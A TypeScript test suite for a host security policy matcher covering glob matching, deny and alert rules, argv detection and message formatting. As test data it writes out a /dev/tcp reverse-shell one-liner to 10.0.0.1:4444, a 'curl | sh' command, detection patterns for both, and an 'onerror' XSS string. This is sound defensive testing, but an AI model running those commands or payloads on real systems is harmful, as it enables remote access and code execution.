import { parseEvent, type VigilEvent } from "@vigil/events";
import { validEvent } from "@vigil/events/fixtures";
import Database from "better-sqlite3";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { globToRegExp, sqlGlob } from "./glob";
import { PolicyMatcher } from "./match";
import { parsePolicy } from "./parse";

function matcher(yaml: string, version = 3): PolicyMatcher {
  const result = parsePolicy(yaml);
  if (!result.ok) throw new Error(JSON.stringify(result.errors));
  return new PolicyMatcher(result.policy, { id: "pol-1", version });
}

/** The fields the tests change in a fixture event. */
type Editable = {
  process: { exe: string; uid: number; pid: number; argv: string[] };
  file: { path: string };
  target: { exe: string; pid: number };
};

function event(type: Parameters<typeof validEvent>[0], change: (e: Editable) => void = () => {}) {
  const raw = structuredClone(validEvent(type)); // the fixture shares its nested objects between calls
  change(raw as unknown as Editable);
  const parsed = parseEvent(raw);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.event;
}

/** A glob matcher written the slow, obvious way, to check the regex translation against. */
function reference(pattern: string, text: string): boolean {
  if (pattern === "") return text === "";
  if (pattern.startsWith("**")) {
    for (let i = 0; i <= text.length; i++) if (reference(pattern.slice(2), text.slice(i))) return true;
    return false;
  }
  if (pattern[0] === "*") {
    for (let i = 0; i <= text.length && (i === 0 || text[i - 1] !== "/"); i++)
      if (reference(pattern.slice(1), text.slice(i))) return true;
    return false;
  }
  if (text === "") return false;
  if (pattern[0] === "?") return text[0] !== "/" && reference(pattern.slice(1), text.slice(1));
  return pattern[0] === text[0] && reference(pattern.slice(1), text.slice(1));
}

const protect = `
apiVersion: vigil/v1
kind: Policy
name: protect
mode: enforce
rules:
  - id: no-delete
    on: unlink_running
    action: deny
    severity: high
    when: { file.path: ["/usr/bin/*"] }
    unless: { process.exe: /usr/bin/dpkg }
    message: "{file.path} removed by {process.exe} ({process.argv})"
  - id: root-may
    on: unlink_running
    action: allow
    when: { process.uid: 0, file.path: /usr/bin/local-tool }
  - id: watch-tmp
    on: unlink_running
    action: alert
    severity: low
    when: { file.path: "/tmp/**" }
`;

describe("globs", () => {
  it("agree with a reference matcher on generated patterns and paths", () => {
    const piece = fc.constantFrom("a", "b", "/", "*", "**", "?");
    const char = fc.constantFrom("a", "b", "/", ".");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), fc.array(char, { maxLength: 8 }), (pieces, chars) => {
        const pattern = pieces.join("");
        const text = chars.join("");
        expect(globToRegExp(pattern).test(text)).toBe(reference(pattern.replace(/\*{3,}/g, "**"), text));
      }),
      { numRuns: 2000 },
    );
  });

  it("take regex characters and escapes literally", () => {
    expect(globToRegExp("/opt/a+b (1)/[x].sh").test("/opt/a+b (1)/[x].sh")).toBe(true);
    expect(globToRegExp("/opt/a\\*").test("/opt/a*")).toBe(true);
    expect(globToRegExp("/opt/a\\*").test("/opt/ab")).toBe(false);
  });
});

describe("PolicyMatcher", () => {
  const policy = matcher(protect);
  const unlink = (path: string, exe: string, uid = 1000) =>
    event("unlink_running", (e) => {
      e.file.path = path;
      e.process.exe = exe;
      e.process.uid = uid;
    });

  it("denies in enforce mode, naming the policy, version and rule, with the message filled in", () => {
    expect(policy.decide(unlink("/usr/bin/sshd", "/tmp/dropper"))).toEqual({
      policy: { id: "pol-1", version: 3, rule: "no-delete" },
      action: "deny",
      verdict: "denied",
      severity: "high",
      message: "/usr/bin/sshd removed by /tmp/dropper (curl -s https://example.com)",
    });
  });

  it("lets `unless` excuse, `allow` win over deny, and an alert stand when nothing denies", () => {
    expect(policy.decide(unlink("/usr/bin/sshd", "/usr/bin/dpkg"))).toBeNull();
    expect(policy.decide(unlink("/usr/bin/local-tool", "/tmp/dropper", 0))).toBeNull();
    expect(policy.decide(unlink("/usr/bin/local-tool", "/tmp/dropper", 1000))?.policy.rule).toBe("no-delete");
    expect(policy.decide(unlink("/usr/bin/sub/dir", "/tmp/dropper"))).toBeNull(); // `*` stays in its directory
    expect(policy.decide(unlink("/tmp/a/b", "/tmp/dropper"))).toMatchObject({
      action: "alert",
      verdict: "allowed",
    });
    expect(policy.decide(event("exec"))).toBeNull(); // no rule is about exec
  });

  it("reports `audit` instead of `denied` in audit mode", () => {
    const audit = matcher(protect.replace("mode: enforce", "mode: audit"));
    expect(audit.decide(unlink("/usr/bin/sshd", "/tmp/dropper"))?.verdict).toBe("audit");
  });

  it("decides exactly when `when` holds and `unless` does not, on generated events", () => {
    const exes = ["/usr/bin/gdb", "/usr/bin/strace", "/tmp/x", "/usr/bin/python3"];
    const ptrace = matcher(`
apiVersion: vigil/v1
kind: Policy
name: only-debuggers
mode: enforce
rules:
  - id: only-debuggers
    on: ptrace
    action: deny
    severity: high
    when: { target.exe: ["/usr/sbin/*", "/usr/bin/*"], target.self: false }
    unless: { process.exe: [/usr/bin/gdb, /usr/bin/strace], process.uid: 0 }
`);
    fc.assert(
      fc.property(
        fc.constantFrom(...exes),
        fc.constantFrom("/usr/sbin/sshd", "/usr/bin/bash", "/opt/app/bin/app"),
        fc.constantFrom(0, 1000),
        fc.boolean(),
        (exe, targetExe, uid, self) => {
          const e = event("ptrace", (raw) => {
            raw.process.exe = exe;
            raw.process.uid = uid;
            raw.target.exe = targetExe;
            if (self) raw.target.pid = raw.process.pid;
          });
          const when = targetExe.startsWith("/usr/") && !self;
          const excused = (exe === "/usr/bin/gdb" || exe === "/usr/bin/strace") && uid === 0;
          expect(ptrace.decide(e)?.verdict ?? null).toBe(when && !excused ? "denied" : null);
        },
      ),
    );
  });

  it("matches argv by substring or by regex over the command line", () => {
    const shells = matcher(`
apiVersion: vigil/v1
kind: Policy
name: shells
rules:
  - { id: tcp, on: exec, action: alert, severity: high, when: { process.argv: { regex: "/dev/(tcp|udp)/" } } }
  - { id: curl-pipe, on: exec, action: alert, severity: low, when: { process.argv: [" | sh"] } }
`);
    const exec = (argv: string[]) =>
      event("exec", (e) => {
        e.process.argv = argv;
      });
    expect(shells.decide(exec(["bash", "-c", "sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"]))?.policy.rule).toBe(
      "tcp",
    );
    expect(shells.decide(exec(["bash", "-c", "curl x | sh"]))?.policy.rule).toBe("curl-pipe");
    expect(shells.decide(exec(["bash", "-c", "ls /dev/tcpdump"]))).toBeNull();
  });

  it("keeps hostile strings as they are in messages, and leaves unknown placeholders alone", () => {
    const hostile = matcher(`
apiVersion: vigil/v1
kind: Policy
name: msgs
rules:
  - { id: any, on: exec, action: alert, severity: info, message: "{process.exe} {parent.pid} {{process.comm}}" }
`);
    const e: VigilEvent = event("exec", (raw) => {
      raw.process.exe = "/tmp/<img src=x onerror=alert(1)>";
    });
    expect(hostile.decide(e)?.message).toBe("/tmp/<img src=x onerror=alert(1)> 4100 {curl}");
  });

  it("selects hosts by every label and by name patterns", () => {
    const selected = matcher(`
apiVersion: vigil/v1
kind: Policy
name: prod-web
selector: { labels: { env: prod }, hosts: ["web-*"] }
rules: [{ id: r, on: exec, action: alert, severity: info }]
`);
    expect(selected.selects({ name: "web-1", labels: { env: "prod", team: "a" } })).toBe(true);
    expect(selected.selects({ name: "web-1", labels: { env: "staging" } })).toBe(false);
    expect(selected.selects({ name: "db-1", labels: { env: "prod" } })).toBe(false);
    expect(matcher(protect).selects({ name: "any", labels: {} })).toBe(true);
  });
});

describe("PolicyMatcher.candidates", () => {
  const policy = matcher(`
apiVersion: vigil/v1
kind: Policy
name: filters
rules:
  - { id: curl, on: exec, action: alert, severity: low, when: { process.exe: /usr/bin/curl, process.uid: 0 } }
  - { id: wget, on: exec, action: alert, severity: low, when: { process.argv: [wget] } }
  - { id: not-root, on: exec, action: allow, when: { process.uid: 1000 } }
  - { id: any-ptrace, on: ptrace, action: alert, severity: low, when: { process.uid: 0 } }
  - { id: tmp, on: unlink_running, action: alert, severity: low, when: { file.path: ["/tmp/**"] } }
  - { id: bin, on: unlink_running, action: deny, severity: low, when: { file.path: /usr/bin/* } }
`);
  const program = (exe: string, argv: string[]) => ({ exe, filename: exe, comm: "x", argv });

  it("narrows by program when every deciding rule tests one, passing only what some rule could match", () => {
    const candidates = policy.candidates("exec");
    if (candidates?.by !== "program") throw new Error("expected narrowing by program");
    expect(candidates.test(program("/usr/bin/curl", ["curl"]))).toBe(true);
    expect(candidates.test(program("/usr/bin/env", ["env", "wget", "x"]))).toBe(true);
    expect(candidates.test(program("/usr/bin/ls", ["ls"]))).toBe(false);
    expect(candidates.exeGlobs).toBeNull(); // the wget rule does not name an executable
  });

  it("narrows by file path, or not at all when a rule tests neither", () => {
    expect(policy.candidates("unlink_running")).toEqual({ by: "file", globs: ["/tmp/**", "/usr/bin/*"] });
    expect(policy.candidates("ptrace")).toBeNull();
  });
});

describe("sqlGlob", () => {
  it("matches in SQLite whatever the glob matches", () => {
    const db = new Database(":memory:");
    const glob = db.prepare<[string, string], number>("SELECT ? GLOB ?").pluck();
    const piece = fc.constantFrom("a", "/", "*", "**", "?", "[", "]", "\\*", "\\?");
    const char = fc.constantFrom("a", "/", "*", "?", "[", "]");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), fc.array(char, { maxLength: 8 }), (pieces, chars) => {
        const pattern = pieces.join("");
        const text = chars.join("");
        if (globToRegExp(pattern).test(text)) expect(glob.get(text, sqlGlob(pattern))).toBe(1);
      }),
      { numRuns: 3000 },
    );
    expect(glob.get("/usr/bin/curl", sqlGlob("/usr/bin/*"))).toBe(1);
    expect(glob.get("/usr/sbin/curl", sqlGlob("/usr/bin/*"))).toBe(0);
  });
});
